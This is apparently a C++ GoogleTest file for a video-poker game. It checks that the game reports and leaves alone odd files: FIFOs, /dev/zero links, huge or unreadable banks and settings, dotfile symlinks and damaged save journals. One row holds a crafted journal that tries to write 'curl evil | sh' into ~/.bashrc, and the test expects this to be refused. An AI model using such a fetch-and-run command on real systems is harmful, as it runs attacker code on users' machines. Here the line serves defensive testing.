// The real main window on files that are not what they seem and folders it cannot use: a FIFO
// or an endless device in the bank's place, a huge bank, banks and settings it may not read,
// folders it cannot write. Each time the game starts, plays a round and exits; the messages
// must say exactly what went wrong (or nothing), and what was on disk and could not be read
// is left as it was. Random bytes in the files are the fuzz targets' part (fuzz/).
#include "WindowTesting.h"

#include "settings/Settings.h"
#include "storage/AtomicFile.h"
#include "storage/SaveJournal.h"
#include "support/SavedFiles.h"

#include <gtest/gtest.h>

#include <cstring>
#include <filesystem>
#include <sys/stat.h>
#include <unistd.h>

namespace corvanta {
namespace {

// A file's bytes, "<missing>", or why it cannot be read.
std::string Get(const std::string& path) {
    ReadResult file = ReadWholeFile(path, 1 << 20);
    return file.error == 0        ? std::move(file.bytes)
           : file.error == ENOENT ? "<missing>"
                                  : "<" + std::string(std::strerror(file.error)) + ">";
}

const std::string ThreeAccounts =
    test::Record("Player 1", 100) + test::Record("Player 2", 200) + test::Record("Player 3", 300);

enum class Bank { Untouched, Saved, Missing };

// Each row: what is arranged as root before the start (it may point the game at another bank
// folder); what the messages said, {bank}, {settings} and {folder} standing for the two files'
// paths and the bank's folder; the bank and the settings afterwards; the cash at the start;
// settings kept aside as settings.reg.bad; the back in use. Run as root, the game plays as
// "nobody", as a player would, but where the device at hand is root's alone (some containers
// keep /dev/zero so), and the bank can be another user's.
struct Row {
    const char* name;
    std::function<void(const test::GameFiles&, GameFolders&)> arrange;
    std::string said;
    Bank bank;
    bool settingsSaved; // else untouched
    int cash = 100;
    bool settingsKeptAside = false;
    int back = 63;
    bool asPlayer = true;
    bool bankIsAnotherUsers = false;
    std::function<void(const test::GameFiles&)> check = nullptr; // more on disk afterwards
};

std::string BankUnreadable(const char* reason) {
    return "Corvanta - Bank: The bank could not be read from {bank}:\r" + std::string(reason) +
           ". You may play on; the game leaves the file as it is.";
}

void PutBank(const test::GameFiles& files, const std::string& bytes, unsigned mode) {
    test::WriteBytes(files.program + "/gbank.db", bytes);
    ::chmod((files.program + "/gbank.db").c_str(), mode);
}

void PutSettings(const test::GameFiles& files, const std::string& bytes) {
    ASSERT_EQ(::mkdir((files.config + "/corvanta").c_str(), 0700), 0);
    test::WriteBytes(files.config + "/corvanta/settings.reg", bytes);
}

const std::string NotUnderstood("\x01Windows Registry\x00\xff\xfe\x02 Poker", 32);

// The file in the game's place is a link, as a dotfile manager makes, to a file in the
// player's dotfiles folder holding `bytes`.
void PutLink(const test::GameFiles& files, const std::string& place, const std::string& bytes) {
    const std::string target = files.root / "dotfiles" / std::filesystem::path(place).filename();
    std::filesystem::create_directories(files.root / "dotfiles");
    std::filesystem::create_directories(std::filesystem::path(place).parent_path());
    test::WriteBytes(target, bytes);
    ASSERT_EQ(::symlink(target.c_str(), place.c_str()), 0);
}

// The link is still there and leads to the file the game saved.
void ExpectLinkTo(const std::string& place, const std::string& target) {
    struct stat link {};
    EXPECT_TRUE(::lstat(place.c_str(), &link) == 0 && S_ISLNK(link.st_mode)) << place;
    EXPECT_EQ(std::filesystem::read_symlink(place).string(), target);
}

std::string JournalOf(const test::GameFiles& files) {
    return files.config + "/corvanta/save.journal";
}

// What the player is told of a journal that was not carried out and is set aside.
std::string JournalSetAside(const std::string& why) {
    return "Corvanta - Save: The last save was not completed from {journal}:\r" + why +
           ". The bank and the settings are kept as they are, and the journal as {journal}.bad.";
}

const Row Rows[] = {
    {"a FIFO in the bank's place",
     [](auto& f, auto&) { ASSERT_EQ(::mkfifo((f.program + "/gbank.db").c_str(), 0600), 0); },
     BankUnreadable("Not a regular file"), Bank::Untouched, true},
    {"a link to a file that never ends",
     [](auto& f, auto&) {
         ASSERT_EQ(::symlink("/dev/zero", (f.program + "/gbank.db").c_str()), 0);
     },
     BankUnreadable("Not a regular file"), Bank::Untouched, true, 100, false, 63, false},
    {"a 2 GB bank, mostly holes",
     [](auto& f, auto&) {
         PutBank(f, ThreeAccounts, 0600);
         ASSERT_EQ(::truncate((f.program + "/gbank.db").c_str(), 2'000'000'000), 0);
     },
     BankUnreadable("File too large"), Bank::Untouched, true},
    {"a folder in the bank's place",
     [](auto& f, auto&) { ASSERT_EQ(::mkdir((f.program + "/gbank.db").c_str(), 0700), 0); },
     BankUnreadable("Is a directory"), Bank::Untouched, true},
    {"a bank the player may not read", [](auto& f, auto&) { PutBank(f, ThreeAccounts, 0); },
     BankUnreadable("Permission denied"), Bank::Untouched, true},
    {"another user's bank", [](auto& f, auto&) { PutBank(f, ThreeAccounts, 0600); },
     BankUnreadable("Permission denied"), Bank::Untouched, true, 100, false, 63, true, true},
    {"a bank folder that cannot be made",
     [](auto& f, auto& game) {
         test::WriteBytes(f.program + "/poker", "not a folder");
         game.bank = f.program + "/poker/corvanta";
     },
     "Corvanta - Bank: The bank's folder could not be made at {folder}:\rNot a directory. You may "
     "play on; the accounts are not saved.",
     Bank::Missing, true},
    {"a bank folder the player may not write",
     [](auto& f, auto&) { ::chmod(f.program.c_str(), 0555); },
     "Corvanta - Save: The bank could not be saved to {bank}:\rPermission denied\nCorvanta - Exit: "
     "The bank could not be saved to {bank}:\rPermission denied",
     Bank::Missing, false},
    {"settings the game cannot understand", [](auto& f, auto&) { PutSettings(f, NotUnderstood); },
     "Corvanta - Settings: The settings in {settings} could not be understood:\rthey are kept in "
     "{settings}.bad, and the game starts from its defaults.",
     Bank::Saved, true, 100, true},
    {"settings exported by reg.exe in UTF-16",
     [](auto& f, auto&) {
         PutSettings(f, test::Utf16Le(u"\uFEFFWindows Registry Editor Version 5.00\r\n\r\n"
                                      u"[HKEY_CURRENT_USER\\Software\\Brondel\\Poker]\r\n"
                                      u"\"Card BG\"=dword:00000037\r\n"
                                      u"\"Current Account\"=dword:00000001\r\n"
                                      u"\"Current Money\"=dword:00001388\r\n\r\n"));
     },
     "", Bank::Saved, true, 5000, false, 55},
    {"a back number that names no back",
     [](auto& f, auto&) {
         PutSettings(f, "Windows Registry Editor Version 5.00\n\n"
                        "[HKEY_CURRENT_USER\\Software\\Brondel\\Poker]\n\"Card "
                        "BG\"=dword:ffffffff\n");
     },
     "", Bank::Saved, true},
    {"settings the player may not read",
     [](auto& f, auto&) {
         ASSERT_TRUE(SaveSettings(f.config, {55, 2, 777}).ok);
         ::chmod((f.config + "/corvanta/settings.reg").c_str(), 0);
     },
     "Corvanta - Settings: The settings could not be read from {settings}:\rPermission denied. The "
     "game starts from its defaults and leaves the file alone.",
     Bank::Saved, false},
    {"a second set of settings the game cannot understand",
     [](auto& f, auto&) {
         PutSettings(f, NotUnderstood);
         test::WriteBytes(f.config + "/corvanta/settings.reg.bad", "the first");
     },
     "Corvanta - Settings: The settings in {settings} could not be understood:\rthey are kept in "
     "{settings}.bad.2, and the game starts from its defaults.",
     Bank::Saved, true, 100, false, 63, true, false,
     [](auto& f) {
         EXPECT_EQ(Get(f.config + "/corvanta/settings.reg.bad"), "the first");
         EXPECT_EQ(Get(f.config + "/corvanta/settings.reg.bad.2"), NotUnderstood);
     }},
    {"settings.reg a dotfile manager's link",
     [](auto& f, auto&) {
         PutLink(
             f, f.config + "/corvanta/settings.reg",
             "Windows Registry Editor Version 5.00\n\n"
             "[HKEY_CURRENT_USER\\Software\\Brondel\\Poker]\n\"Current Money\"=dword:000000fa\n");
     },
     "", Bank::Saved, true, 250, false, 63, true, false,
     [](auto& f) {
         ExpectLinkTo(f.config + "/corvanta/settings.reg", f.root / "dotfiles/settings.reg");
         EXPECT_NE(Get(f.root / "dotfiles/settings.reg").find("\"Current Money\"=dword:000000f5"),
                   std::string::npos);
     }},
    {"gbank.db a dotfile manager's link",
     [](auto& f, auto&) { PutLink(f, f.program + "/gbank.db", test::Record("Player 1", 100)); }, "",
     Bank::Saved, true, 100, false, 63, true, false,
     [](auto& f) {
         ExpectLinkTo(f.program + "/gbank.db", f.root / "dotfiles/gbank.db");
         EXPECT_EQ(Get(f.root / "dotfiles/gbank.db"), test::Record("Player 1", 100, 1, 0, 1, 0, 5));
     }},
    {"a FIFO in the save journal's place",
     [](auto& f, auto&) {
         ASSERT_EQ(::mkdir((f.config + "/corvanta").c_str(), 0700), 0);
         ASSERT_EQ(::mkfifo(JournalOf(f).c_str(), 0600), 0);
     },
     JournalSetAside("Not a regular file"), Bank::Saved, true, 100, false, 63, true, false,
     [](auto& f) {
         EXPECT_TRUE(std::filesystem::is_fifo(JournalOf(f) + ".bad"));
         EXPECT_FALSE(std::filesystem::exists(JournalOf(f)));
     }},
    {"a save journal the player may not read",
     [](auto& f, auto&) {
         ASSERT_EQ(::mkdir((f.config + "/corvanta").c_str(), 0700), 0);
         test::WriteBytes(JournalOf(f), "unread");
         ::chmod(JournalOf(f).c_str(), 0);
     },
     JournalSetAside("Permission denied"), Bank::Saved, true, 100, false, 63, true, false,
     [](auto& f) {
         ::chmod((JournalOf(f) + ".bad").c_str(), 0600);
         EXPECT_EQ(Get(JournalOf(f) + ".bad"), "unread");
     }},
    {"a save journal that would write over ~/.bashrc",
     [](auto& f, auto&) {
         ASSERT_EQ(::mkdir((f.config + "/corvanta").c_str(), 0700), 0);
         test::WriteBytes(f.root / ".bashrc", "PATH=/usr/bin\n");
         test::WriteBytes(JournalOf(f), JournalBytes({{{f.root / ".bashrc", "curl evil | sh\n"},
                                                       StateOfBytes("PATH=/usr/bin\n")}}));
     },
     JournalSetAside("It names {root}/.bashrc, which is neither the bank nor the settings in use"),
     Bank::Saved, true, 100, false, 63, true, false,
     [](auto& f) {
         EXPECT_EQ(Get(f.root / ".bashrc"), "PATH=/usr/bin\n");
     }},
    {"a damaged save journal in a settings folder the player may not write",
     [](auto& f, auto&) {
         ASSERT_EQ(::mkdir((f.config + "/corvanta").c_str(), 0700), 0);
         test::WriteBytes(JournalOf(f), "corvanta save journal 2\n");
         ::chmod((f.config + "/corvanta").c_str(), 0555);
     },
     "Corvanta - Save: The last save was not completed from {journal}:\rIt is not a whole save "
     "journal of this game. It could not be set aside either (Permission denied), so this game "
     "saves nothing.",
     Bank::Missing, false, 100, false, 63, true, false,
     [](auto& f) {
         EXPECT_EQ(Get(JournalOf(f)), "corvanta save journal 2\n");
     }},
};

using BadFilesTest = test::GameTest;

TEST_F(BadFilesTest, EachOddFileOrFolderIsSaidAndLeftAlone) {
    for (const Row& row : Rows) {
        SCOPED_TRACE(row.name);
        if (row.bankIsAnotherUsers && ::geteuid() != 0) {
            continue; // only root can hand the bank to another user
        }
        const test::GameFiles odd;
        GameFolders folders = odd.Folders();
        row.arrange(odd, folders);
        const std::string bankPath = folders.bank + "/gbank.db";
        const std::string settingsPath = odd.config + "/corvanta/settings.reg";
        const std::string bankBefore = Get(bankPath);
        const std::string settingsBefore = Get(settingsPath);
        test::AsPlayer player;
        if (row.asPlayer) {
            player.Become({odd.root.Path()}, row.bankIsAnotherUsers ? bankPath : std::string());
        }
        // The game starts, bets $5, deals, discards the first card, draws, and exits.
        std::string said;
        {
            test::DialogAnswers answers;
            game = std::make_unique<test::TestGame>(folders);
            window = std::make_unique<MainWindow>(game->model, game->cards);
            window->show();
            EXPECT_EQ(test::Look(*window, "lblCurrentCash"), QStringLiteral("$%1").arg(row.cash));
            Do("bet 5; deal 2C 5D 7H 9S KC; click Card1; deal 2H; "
               "expect lblLastHand=Not a Winning Hand; click cmdExit");
            said = answers.said;
            window.reset();
        }
        player.Leave();
        ::chmod(odd.program.c_str(), 0700); // open to the test again
        ::chmod(bankPath.c_str(), 0600);
        ::chmod(settingsPath.c_str(), 0600);

        QString expected = QString::fromStdString(row.said);
        expected.replace(QStringLiteral("{folder}"), QString::fromStdString(folders.bank))
            .replace(QStringLiteral("{bank}"), QString::fromStdString(bankPath))
            .replace(QStringLiteral("{settings}"), QString::fromStdString(settingsPath))
            .replace(QStringLiteral("{journal}"), QString::fromStdString(JournalOf(odd)))
            .replace(QStringLiteral("{root}"), QString::fromStdString(odd.root.Path()));
        EXPECT_EQ(said, expected.toStdString());
        if (row.bank == Bank::Untouched) {
            EXPECT_TRUE(Get(bankPath) == bankBefore);
        } else { // one whole record, or no file
            const bool file = std::filesystem::is_regular_file(bankPath);
            EXPECT_EQ(file ? Get(bankPath).size() : 0u, row.bank == Bank::Saved ? 46u : 0u);
        }
        EXPECT_TRUE(!row.settingsKeptAside || Get(settingsPath + ".bad") == settingsBefore);
        if (row.check) {
            row.check(odd);
        }
        if (row.settingsSaved) {
            const StoredSettings stored = LoadSettings(odd.config).values;
            EXPECT_EQ(std::to_string(stored.CardBG) + " " + std::to_string(stored.GCNum) + " " +
                          std::to_string(stored.CashOnHand),
                      std::to_string(row.back) + " 1 " + std::to_string(row.cash - 5));
        } else {
            EXPECT_TRUE(Get(settingsPath) == settingsBefore);
        }
    }
}

} // namespace
} // namespace corvanta
